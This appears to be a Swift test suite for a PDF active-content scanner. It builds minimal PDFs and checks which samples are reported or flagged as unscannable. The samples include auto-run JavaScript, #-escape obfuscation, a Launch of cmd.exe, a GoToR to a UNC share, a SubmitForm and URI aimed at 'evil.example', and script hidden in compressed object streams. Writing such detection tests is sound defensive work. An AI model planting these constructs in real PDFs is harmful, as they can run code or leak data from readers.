import CZlib
import Testing

@testable import Inspection

// The samples of /work/main/Tests/InspectionTests/PDFActiveContentTests.swift (the token lexer's tests), run against
// the object parser: which of the old expectations still hold.

/// Builds small, structurally valid PDFs (objects, xref table, trailer) around chosen objects.
enum PDFBuilder {
    /// - Parameters:
    ///   - catalogExtra: Entries added to the catalog dictionary.
    ///   - objects: Extra objects, numbered from 4 (`n 0 obj ... endobj` is added around each body).
    ///   - trailerExtra: Entries added to the trailer dictionary.
    static func pdf(catalogExtra: String = "", objects: [[UInt8]] = [], trailerExtra: String = "") -> [UInt8] {
        var bodies: [[UInt8]] = [
            Array("<< /Type /Catalog /Pages 2 0 R \(catalogExtra) >>".utf8),
            Array("<< /Type /Pages /Kids [3 0 R] /Count 1 >>".utf8),
            Array("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>".utf8),
        ]
        bodies += objects
        var out = Array("%PDF-1.7\n%\u{e2}\u{e3}\u{cf}\u{d3}\n".utf8)
        var offsets: [Int] = []
        for (number, body) in bodies.enumerated() {
            offsets.append(out.count)
            out += Array("\(number + 1) 0 obj\n".utf8) + body + Array("\nendobj\n".utf8)
        }
        let xref = out.count
        out += Array("xref\n0 \(bodies.count + 1)\n0000000000 65535 f \n".utf8)
        for offset in offsets { out += Array((String(repeating: "0", count: 10 - String(offset).count) + "\(offset) 00000 n \n").utf8) }
        out += Array("trailer\n<< /Size \(bodies.count + 1) /Root 1 0 R \(trailerExtra) >>\nstartxref\n\(xref)\n%%EOF\n".utf8)
        return out
    }

    /// A stream object body.
    static func stream(dictionary: String, data: [UInt8]) -> [UInt8] {
        Array("<< \(dictionary) /Length \(data.count) >>\nstream\n".utf8) + data + Array("\nendstream".utf8)
    }

    /// zlib-compressed bytes.
    static func deflate(_ bytes: [UInt8]) -> [UInt8] {
        var length = compressBound(uLong(bytes.count))
        var out = [UInt8](repeating: 0, count: Int(length))
        let result = compress2(&out, &length, bytes, uLong(bytes.count), 9)
        precondition(result == Z_OK)
        return Array(out[0..<Int(length)])
    }

    /// An object stream holding `objects` (numbered from 10), compressed unless `filter` says otherwise.
    static func objectStream(_ objects: [String], filter: String? = "/FlateDecode", compressed: Bool = true) -> [UInt8] {
        var header = ""
        var body = ""
        for (index, object) in objects.enumerated() {
            header += "\(10 + index) \(body.utf8.count) "
            body += object + "\n"
        }
        let plain = Array((header + body).utf8)
        let data = compressed ? deflate(plain) : plain
        let filterEntry = filter.map { "/Filter \($0)" } ?? ""
        return stream(dictionary: "/Type /ObjStm /N \(objects.count) /First \(header.utf8.count) \(filterEntry)", data: data)
    }
}

/// A PDF and the finding it must produce (described by the finding, not its bytes).
struct PDFSample: CustomTestStringConvertible, Sendable {
    let pdf: [UInt8]
    let expected: String
    var testDescription: String { expected }
}

@Suite struct PDFActiveContentTests {
    /// Words that look like active content but are text, a destination OpenAction, a binary content stream.
    static let ordinary = PDFBuilder.pdf(
        catalogExtra: "/OpenAction [3 0 R /XYZ null null 0] /PageMode /UseOutlines /Lang (en-GB) /Outlines 8 0 R",
        objects: [
            Array("<< /Title (About /JavaScript and /Launch \\) in prose) /Author <2F4A53> >>".utf8),
            PDFBuilder.stream(dictionary: "/Filter /FlateDecode", data: PDFBuilder.deflate(Array("BT /F1 12 Tf (/JS /AA /Launch) Tj ET".utf8))),
            Array("% a comment naming /JavaScript\n<< /Producer (LibreOffice) >>".utf8),
            Array("<< /S /GoTo /D [3 0 R /Fit] >>".utf8),
            Array("<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://example.com) >> >>".utf8),
            PDFBuilder.objectStream(["<< /Type /Catalog /OpenAction 7 0 R >>", "<< /Type /Outlines /Count 0 >>"]),
        ],
        trailerExtra: "/Info 4 0 R /ID [<0123456789abcdef> <0123456789abcdef>]"
    )

    @Test func ordinaryPDFHasNoFindings() {
        #expect(PDFActiveContent.findings(in: Self.ordinary) == .init())
    }

    @Test(arguments: [
        PDFSample(pdf: PDFBuilder.pdf(catalogExtra: "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"), expected: "JavaScript"),
        PDFSample(pdf: PDFBuilder.pdf(catalogExtra: "/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"), expected: "#-escapes"),
        PDFSample(pdf: PDFBuilder.pdf(catalogExtra: "/OpenAction << /S /URI /URI (https://evil.example) >>"), expected: "OpenAction URI"),
        PDFSample(
            pdf: PDFBuilder.pdf(catalogExtra: "/OpenAction 4 0 R", objects: [Array("<< /S /GoToR /F (\\\\evil\\share\\x.pdf) /D [0 /Fit] >>".utf8)]),
            expected: "GoToR"
        ),
        // Changed: the old sample's /WC pointed at a missing object 4; a dangling reference runs nothing and is no
        // longer reported, so the action now exists.
        PDFSample(
            pdf: PDFBuilder.pdf(catalogExtra: "/AA << /WC 4 0 R >>", objects: [Array("<< /S /JavaScript /JS (1) >>".utf8)]),
            expected: "additional actions"
        ),
        PDFSample(pdf: PDFBuilder.pdf(objects: [Array("<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) >> >>".utf8)]), expected: "Launch"),
        PDFSample(
            pdf: PDFBuilder.pdf(catalogExtra: "/Names << /EmbeddedFiles 4 0 R >>", objects: [Array("<< /Names [(a.exe) 5 0 R] >>".utf8)]),
            expected: "embedded file"
        ),
        PDFSample(pdf: PDFBuilder.pdf(catalogExtra: "/AcroForm << /XFA 4 0 R >>"), expected: "XFA"),
        PDFSample(pdf: PDFBuilder.pdf(objects: [Array("<< /S /SubmitForm /F (https://evil.example) >>".utf8)]), expected: "SubmitForm"),
        PDFSample(pdf: PDFBuilder.pdf(objects: [Array("<< /Type /Annot /Subtype /RichMedia >>".utf8)]), expected: "RichMedia"),
        // Hidden in a compressed object stream.
        PDFSample(
            pdf: PDFBuilder.pdf(objects: [PDFBuilder.objectStream(["<< /Type /Action /S /JavaScript /JS (this.exportDataObject\\(\\)) >>"])]),
            expected: "JavaScript"
        ),
        PDFSample(
            pdf: PDFBuilder.pdf(objects: [PDFBuilder.objectStream(["<< /S /L#61unch /F (x) >>"], filter: nil, compressed: false)]),
            expected: "Launch"
        ),
    ])
    func activeContentIsFound(_ sample: PDFSample) {
        let findings = PDFActiveContent.findings(in: sample.pdf)
        #expect(findings.active.contains { $0.contains(sample.expected) }, "\(findings)")
        #expect(findings.unscannable.isEmpty)
    }

    @Test(arguments: [
        PDFSample(
            pdf: PDFBuilder.pdf(objects: [Array("<< /Filter /Standard /V 2 /R 3 /O <00> /U <00> /P -4 >>".utf8)], trailerExtra: "/Encrypt 4 0 R"),
            expected: "needs a user password"
        ),  // changed: was "encrypted"
        PDFSample(
            pdf: PDFBuilder.pdf(objects: [PDFBuilder.objectStream(["<< /S /JavaScript >>"], filter: "/ASCII85Decode", compressed: false)]),
            expected: "ASCII85Decode"
        ),
        PDFSample(
            pdf: PDFBuilder.pdf(objects: [PDFBuilder.objectStream(["<< /S /JavaScript >>"], filter: "[/FlateDecode /ASCIIHexDecode]")]),
            expected: "not decoded"
        ),
        PDFSample(
            pdf: PDFBuilder.pdf(objects: [
                PDFBuilder.stream(dictionary: "/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode", data: Array("not zlib at all".utf8))
            ]),
            expected: "cannot be inflated"
        ),
        PDFSample(
            pdf: PDFBuilder.pdf(objects: [
                PDFBuilder.stream(
                    dictionary: "/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode",
                    data: Array(PDFBuilder.deflate(Array(repeating: 0x41, count: 5000)).prefix(9))
                )
            ]),
            expected: "ends early"
        ),
    ])
    func whatCannotBeSeenIsUnscannable(_ sample: PDFSample) {
        let findings = PDFActiveContent.findings(in: sample.pdf)
        #expect(findings.unscannable.contains { $0.contains(sample.expected) }, "\(findings)")
    }
}
